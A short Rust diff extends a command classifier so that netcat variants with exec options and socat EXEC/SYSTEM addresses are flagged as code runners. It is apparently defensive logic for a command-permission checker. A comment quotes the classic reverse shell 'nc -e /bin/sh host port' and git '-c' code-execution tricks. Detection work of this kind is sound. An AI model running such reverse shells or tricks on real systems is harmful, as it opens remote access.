@@ -261,6 +261,27 @@ pub(super) fn classify_name(name: &str, rest: &[String]) -> Option<Wrapper> {
         });
         return runs.then_some(Wrapper::Runner);
     }
+    // Netcat variants with an exec option, and socat's EXEC/SYSTEM addresses: the classic
+    // reverse shell (`nc -e /bin/sh host port`).
+    if matches!(
+        lower,
+        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd"
+    ) {
+        let runs = rest.iter().any(|a| {
+            (a.starts_with('-') && !a.starts_with("--") && (a.contains('e') || a.contains('c')))
+                || ["exec", "sh-exec", "lua-exec"]
+                    .iter()
+                    .any(|full| long_option(a, full))
+        });
+        return runs.then_some(Wrapper::Runner);
+    }
+    if lower == "socat" {
+        let runs = rest.iter().any(|a| {
+            let upper = a.to_ascii_uppercase();
+            upper.contains("EXEC:") || upper.contains("SYSTEM:")
+        });
+        return runs.then_some(Wrapper::Runner);
+    }
     if lower == "git" {
         // Configuration on the command line runs code (`-c core.pager=...`, `-c alias.x=!sh`,
         // `-c core.sshCommand=...`), as do `--exec-path=DIR` and `--upload-pack`/`--receive-pack`.
